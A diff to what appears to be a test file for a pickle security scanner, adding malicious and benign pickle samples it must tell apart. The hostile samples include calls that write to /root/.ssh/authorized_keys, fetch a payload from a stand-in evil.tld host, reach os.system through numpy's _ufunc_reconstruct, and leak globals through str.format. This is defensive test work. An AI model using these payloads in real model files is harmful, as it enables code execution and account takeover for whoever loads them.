@@ -33,6 +33,16 @@ const hostile: [what: string, content: Buffer][] = [
   ['a place on the disk', call(global('matplotlib.image', 'paint'), text('/root/.ssh/authorized_keys'))],
   ['a place on the disk in parts', call(global('matplotlib.image', 'paint'), file)],
   ['an address, by a function of nobody', call(global('acme', 'grab'), text('https://evil.tld/x'))],
+  ['a text that is formatted', call(global('builtins', 'str.format'), text('{0.__init__.__globals__}'), int(1))],
+  ['a function of a library, by no telling name', call(global('statsmodels.tools.web', 'webdoc'), text('x'))],
+  [
+    'a function kept as a class of an older file',
+    call(join(tuple(text('module'), global('nltk.data', 'find'), none), 'Q'), text('x')),
+  ],
+  [
+    'a function that numpy fetches by name',
+    call(global('numpy.core', '_ufunc_reconstruct'), text('os'), text('system')),
+  ],
   ['a verb that no line divides', call(global('matplotlib.image', 'imsave'), text('x'))],
   ['a verb in the middle of a name', call(global('acme.tools', 'loadFromUrl'), text('x'))],
   ['a function under another roof', call(global('acme._vendor.cloudpickle', '_make_function'), none)],
@@ -58,9 +68,25 @@ for (const [what, content] of hostile) {
   })
 }
 
+/** A method of an object, bound to it, as modules keep their hooks. */
+const attributeOf = (of: Buffer) => builtin('getattr', join(of, ')\u0081'), text('_infer_parameters'))
+
 const harmless: [what: string, content: Buffer][] = [
   ['an object with named arguments, in protocol 2', partialNew('sympy.core.symbol', 'Symbol', text('x'))],
   ['a type of the interpreter, by dill', call(call(global('dill._dill', '_load_type'), text('slice')), int(0), int(1))],
+  [
+    'a partial function, by dill',
+    call(call(global('dill._dill', '_load_type'), text('PartialType')), global('numpy', 'sum')),
+  ],
+  ['a class of an older file', attributeOf(join(tuple(text('module'), global('torch.nn', 'Linear'), none), 'Q'))],
+  ['an array made of a list', call(global('numpy', 'asarray'), list(int(1)))],
+  ['a record array', call(global('numpy.ma.mrecords', '_mrreconstruct'), int(1))],
+  ['a function of numpy by name', call(global('numpy.core', '_ufunc_reconstruct'), text('numpy'), text('add'))],
+  ['a place in the sky', call(global('astropy.wcs.wcs', '__WCS_unpickle__'), int(1))],
+  ['a type of Arrow', call(global('pyarrow.lib', 'list_'), call(global('pyarrow.lib', 'field'), text('item')))],
+  ['what a reduction gave', call(global('torch.return_types', 'max'), tuple(int(1), int(2)))],
+  ['a tensor of another library', call(global('fastai.torch_core', '_fa_rebuild_tensor'), int(1))],
+  ['a text that is formatted plainly', call(global('builtins', 'str.format'), text('{0.name}_{1[2]}'), int(1))],
   ['a function of a library, kept', partial(global('nltk.tokenize', 'word_tokenize'))],
   [
     'a factory, not asked',
